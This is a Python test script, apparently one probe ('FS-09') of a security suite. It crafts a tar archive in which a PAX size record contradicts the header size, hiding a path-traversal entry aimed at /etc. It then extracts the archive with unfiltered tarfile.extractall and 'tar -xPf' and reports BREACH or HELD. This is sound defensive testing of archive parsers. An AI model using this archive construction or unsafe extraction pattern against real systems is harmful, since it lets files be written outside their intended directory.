# args: [path=/tmp/fs09.tar]
# FS-09: a tar whose PAX size contradicts the header's own size, so that one parser sees
# data where another sees further entries. The archive stays for parsers of the host.
import io
import os
import shutil
import subprocess
import sys
import tarfile

path = sys.argv[1] if len(sys.argv) > 1 else "/tmp/fs09.tar"


def member(name, data=b"", kind=tarfile.REGTYPE):
    info = tarfile.TarInfo(name)
    info.type, info.size, info.mode = kind, len(data), 0o644
    return info.tobuf(tarfile.USTAR_FORMAT) + data + b"\x00" * (-len(data) % 512)


def pax(**records):
    body = b""
    for key, value in records.items():
        line = b" %s=%s\n" % (key.encode(), str(value).encode())
        length = len(line) + 1
        while len(str(length)) + len(line) != length:
            length = len(str(length)) + len(line)
        body += b"%d%s" % (length, line)
    return member("PaxHeaders/x", body, tarfile.XHDTYPE)


hidden = member("hidden-inner", b"inner\n") + member("../../../../etc/fs09", b"inner\n")
zero = tarfile.TarInfo("outer.tar")
zero.size, zero.mode = 0, 0o644
# PAX says that all of `hidden` is the content of outer.tar; the header says nothing is.
blob = pax(size=len(hidden)) + zero.tobuf(tarfile.USTAR_FORMAT) + hidden
blob += member("visible", b"visible\n") + b"\x00" * 1024
with open(path, "wb") as file:
    file.write(blob)

lists = {}
with tarfile.open(path) as tar:
    lists["python"] = sorted(tar.getnames())
if shutil.which("tar"):
    done = subprocess.run(["tar", "-tf", path], capture_output=True, timeout=3, check=False)
    lists["tar"] = sorted(done.stdout.decode(errors="replace").split())
for tool, names in lists.items():
    print(f"NOTE {tool} lists {names}")

into = path + ".d"
shutil.rmtree(into, ignore_errors=True)
os.makedirs(into)
try:
    with tarfile.open(path) as tar:
        tar.extractall(into)
except Exception as error:
    print(f"NOTE python refused: {type(error).__name__}")
if shutil.which("tar"):
    subprocess.run(["tar", "-xPf", path, "-C", into], stderr=subprocess.DEVNULL, timeout=3, check=False)

if os.path.lexists("/etc/fs09"):
    print("BREACH the hidden entry reached /etc")
elif len({tuple(names) for names in lists.values()}) > 1:
    print("HELD nothing left the directory, though the parsers inside disagree; host parsers must refuse the archive")
else:
    print("HELD nothing left the directory and the parsers agree; host parsers must see the same names or refuse")
